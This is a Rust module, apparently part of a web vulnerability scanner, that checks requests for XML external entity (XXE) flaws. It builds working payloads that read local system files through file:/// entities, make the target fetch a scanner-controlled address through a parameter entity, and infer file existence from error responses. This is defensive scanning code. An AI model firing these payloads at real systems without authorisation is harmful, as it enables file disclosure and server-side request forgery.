//! External entities: a document that the request carries names files and addresses, and the reader
//! of XML fetches them.
//!
//! First an entity of the document's own, made of two words: where they come back as one, entities are
//! resolved and shown. Only then a file, by contents that are known, and a second one. Where nothing is
//! shown, a file that exists is answered like an entity of the document's own, and an absent one is
//! not, twice; and whoever waits for calls is named in a parameter entity. A body of JSON is sent as
//! XML too: some frameworks read whatever comes.
//!
//! Nothing grows: no entity is used more than once. Cost at a clean request: 6 with XML, 2 with JSON.

use super::well_known::KERNEL;
use super::well_known::Pair;
use super::well_known::UNIX;
use super::well_known::WINDOWS;
use crate::model::Confidence;
use crate::model::EvidenceRole;
use crate::model::Header;
use crate::model::InsertionKind;
use crate::model::Request;
use crate::scan::checks::known_page::KnownPage;
use crate::scan::probe::Checking;
use crate::scan::probe::Exhibit;
use crate::scan::probe::Node;
use crate::scan::probe::Outcome;
use crate::scan::probe::ProbeStop;
use crate::scan::probe::Proof;
use crate::scan::probe::RequestCheck;
use crate::scan::probe::RequestProbe;
use crate::scan::probe::Shot;
use crate::scan::probe::insertion_points;

/// Texts of a document that are tried one by one.
const MAX_ALONE: usize = 3;

/// See the module.
pub(crate) struct Xxe;

impl RequestCheck for Xxe {
    fn id(&self) -> &'static str {
        "xxe"
    }

    fn applies(&self, node: &Node) -> bool {
        let base = &node.examples[0];
        is_xml(base) || as_xml(base).is_some()
    }

    fn run<'a>(&'a self, probe: &'a mut RequestProbe) -> Checking<'a> {
        Box::pin(check(probe))
    }
}

fn media_type(request: &Request) -> String {
    let kind = request.header("content-type").map(|it| it.text().to_ascii_lowercase());
    let kind = kind.unwrap_or_default();
    kind.split(';').next().unwrap_or_default().trim().to_owned()
}

fn is_xml(request: &Request) -> bool {
    let kind = media_type(request);
    !request.body.is_empty() && (kind.ends_with("/xml") || kind.ends_with("+xml"))
}

/// A body of JSON as elements of the same names.
fn as_xml(request: &Request) -> Option<Request> {
    if !media_type(request).ends_with("json") {
        return None;
    }
    let body: serde_json::Value = serde_json::from_slice(&request.body).ok()?;
    let members = body.as_object()?;
    let is_name = |name: &str| {
        name.starts_with(|c: char| c.is_ascii_alphabetic())
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
    };
    let elements = members.iter().filter(|(name, _)| is_name(name)).map(|(name, value)| {
        let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        let text = text.replace('&', "&amp;").replace('<', "&lt;");
        format!("<{name}>{text}</{name}>")
    });
    let elements = elements.collect::<Vec<_>>().concat();
    let xml = format!("<?xml version=\"1.0\"?><root>{elements}</root>");
    let mut request = request.clone();
    request.headers.retain(|header| !header.is("content-type") && !header.is("content-length"));
    request.headers.push(Header::new("Content-Type", "application/xml"));
    request.body = xml.into_bytes();
    Some(request)
}

async fn check(probe: &mut RequestProbe) -> Result<Outcome, ProbeStop> {
    let base = probe.base().clone();
    let Some(base) = Some(base.clone()).filter(is_xml).or_else(|| as_xml(&base)) else {
        return Ok(Outcome::Clean);
    };
    let texts = texts(&base);
    let alone = if is_xml(probe.base()) { texts.len().min(MAX_ALONE) } else { 0 };
    let all: Vec<usize> = (0..texts.len()).collect();
    let choices = std::iter::once(all).chain((0..alone).map(|one| vec![one]));
    for places in choices.filter(|places| !places.is_empty()) {
        let document = Document { base: &base, places };
        if let Some(control) = resolved(probe, &document).await? {
            if let Some(proof) = read(probe, &document, &control).await? {
                return Ok(Outcome::Found(Box::new(proof)));
            }
            break;
        }
    }
    call(probe, &base).await?;
    if !is_xml(probe.base()) || texts.is_empty() {
        return Ok(Outcome::Clean);
    }
    let found = told_by_errors(probe, &Document { base: &base, places: vec![0] }).await?;
    Ok(found.map_or(Outcome::Clean, |proof| Outcome::Found(Box::new(proof))))
}

/// Indices of points that are texts of elements, where entities of any kind may stand.
fn texts(request: &Request) -> Vec<usize> {
    let points = insertion_points(request);
    let is_text = |name: &str| !name.contains('@');
    let texts = points.iter().enumerate().filter(|(_, point)| {
        point.reference.kind == InsertionKind::Xml && is_text(&point.reference.name)
    });
    texts.map(|(index, _)| index).collect()
}

/// A document and the texts of it in which an entity stands.
struct Document<'a> {
    base: &'a Request,
    /// Among the texts.
    places: Vec<usize>,
}

impl Document<'_> {
    /// The document with a type of its own; the entity `name` stands in its texts, if it has one.
    fn with(&self, declarations: &str, name: Option<&str>) -> Request {
        let mut request = self.base.clone();
        if let Some(name) = name {
            let mark = format!("zq{name}qz");
            for place in self.places.iter().rev() {
                let points = insertion_points(&request);
                let Some(index) = texts(&request).get(*place).copied() else { continue };
                request = points[index].place(&request, &mark);
            }
            let body = String::from_utf8_lossy(&request.body).replace(&mark, &format!("&{name};"));
            request.body = body.into_bytes();
        }
        let body = String::from_utf8_lossy(&request.body).into_owned();
        let (declaration, rest) = match body.find("?>") {
            Some(end) if body.trim_start().starts_with("<?xml") => body.split_at(end + 2),
            _ => ("", body.as_str()),
        };
        let root = root(rest);
        let body = format!("{declaration}<!DOCTYPE {root} [{declarations}]>{rest}");
        request.body = body.into_bytes();
        request.headers.retain(|header| !header.is("content-length"));
        request
    }
}

/// Name of the outermost element.
fn root(document: &str) -> String {
    let is_name = |c: char| c.is_alphanumeric() || "_-:.".contains(c);
    let mut elements = document.split('<').filter(|it| it.starts_with(char::is_alphabetic));
    let first = elements.next().unwrap_or("root");
    first.chars().take_while(|c| is_name(*c)).collect()
}

/// The answer in which an entity of the document's own is resolved.
async fn resolved(
    probe: &mut RequestProbe,
    document: &Document<'_>,
) -> Result<Option<Shot>, ProbeStop> {
    let (inner, name) = (probe.sender().word(), probe.sender().word());
    let (one, two) = (probe.sender().word(), probe.sender().word());
    let types = format!("<!ENTITY {inner} \"{one}\"><!ENTITY {name} \"&{inner};{two}\">");
    let shot = probe.ask(document.with(&types, Some(&name)), &types).await?;
    Ok(shot.find(&format!("{one}{two}")).map(|_| shot))
}

async fn read(
    probe: &mut RequestProbe,
    document: &Document<'_>,
    control: &Shot,
) -> Result<Option<Proof>, ProbeStop> {
    let pairs: [(&Pair, &str); 3] =
        [(&KERNEL, "file:///"), (&UNIX, "file:///"), (&WINDOWS, "file:///c:/")];
    for (pair, root) in pairs {
        let attack = ask_for(probe, document, &format!("{root}{}", pair.files[0])).await?;
        let Some(mark) = pair.find(0, &attack) else { continue };
        let replay = ask_for(probe, document, &format!("{root}{}", pair.files[1])).await?;
        let Some(replay_mark) = pair.find(1, &replay) else { continue };
        if pair.is_in(control) {
            return Ok(None);
        }
        let detail = format!(
            "an entity of the document's own is resolved, and one that names /{} is replaced by that \
             file's contents, one that names /{} by those",
            pair.files[0], pair.files[1]
        );
        let payloads = vec![attack.value.clone(), replay.value.clone()];
        let (mark, replay_mark) = (attack.in_body(mark), replay.in_body(replay_mark));
        return Ok(Some(Proof {
            confidence: Confidence::Confirmed,
            detail,
            payloads,
            exhibits: vec![
                Exhibit::new(EvidenceRole::Control, control.clone()),
                Exhibit::marked(EvidenceRole::Attack, attack, Some(mark)),
                Exhibit::marked(EvidenceRole::Replay, replay, Some(replay_mark)),
            ],
        }));
    }
    Ok(None)
}

async fn ask_for(
    probe: &mut RequestProbe,
    document: &Document<'_>,
    address: &str,
) -> Result<Shot, ProbeStop> {
    let name = probe.sender().word();
    let types = format!("<!ENTITY {name} SYSTEM \"{address}\">");
    probe.ask(document.with(&types, Some(&name)), &types).await
}

/// An address of ours in a parameter entity, which is fetched wherever its contents would go.
async fn call(probe: &mut RequestProbe, base: &Request) -> Result<(), ProbeStop> {
    let Some(address) = probe.sender().address() else { return Ok(()) };
    let name = probe.sender().word();
    let types = format!("<!ENTITY % {name} SYSTEM \"http://{address}\"> %{name};");
    let document = Document { base, places: Vec::new() };
    let attack = probe.ask(document.with(&types, None), &types).await?;
    let proof = Proof {
        confidence: Confidence::Confirmed,
        detail: format!("the reader of XML fetches what `{types}` names"),
        payloads: vec![types],
        exhibits: vec![Exhibit::new(EvidenceRole::Attack, attack)],
    };
    probe.sender().expect_call(address, proof);
    Ok(())
}

/// Files that exist are answered like entities of the document's own, absent ones are not.
async fn told_by_errors(
    probe: &mut RequestProbe,
    document: &Document<'_>,
) -> Result<Option<Proof>, ProbeStop> {
    let own = [own(probe, document).await?, own(probe, document).await?];
    let Some(page) = KnownPage::of(&own) else { return Ok(None) };
    let (mut attacks, mut controls) = (Vec::new(), Vec::new());
    for file in ["proc/sys/kernel/ostype", "proc/sys/kernel/osrelease"] {
        let word = probe.sender().word();
        let absent = ask_for(probe, document, &format!("file:///proc/{word}/{word}")).await?;
        if page.shows(&absent) {
            return Ok(None);
        }
        let there = ask_for(probe, document, &format!("file:///{file}")).await?;
        if !page.shows(&there) {
            return Ok(None);
        }
        attacks.push(absent);
        controls.push(there);
    }
    let detail = "entities that name files which exist are answered like entities of the document's \
                  own, those that name absent files are not, twice: the files are opened";
    let [own, _] = own;
    let mut exhibits = vec![Exhibit::new(EvidenceRole::Baseline, own)];
    for (index, (absent, there)) in attacks.iter().zip(controls).enumerate() {
        let role = if index == 0 { EvidenceRole::Attack } else { EvidenceRole::Replay };
        exhibits.push(Exhibit::new(role, absent.clone()));
        exhibits.push(Exhibit::new(EvidenceRole::Control, there));
    }
    Ok(Some(Proof {
        confidence: Confidence::Firm,
        detail: detail.to_owned(),
        payloads: attacks.iter().map(|shot| shot.value.clone()).collect(),
        exhibits,
    }))
}

async fn own(probe: &mut RequestProbe, document: &Document<'_>) -> Result<Shot, ProbeStop> {
    let (name, word) = (probe.sender().word(), probe.sender().word());
    let types = format!("<!ENTITY {name} \"{word}\">");
    probe.ask(document.with(&types, Some(&name)), &types).await
}
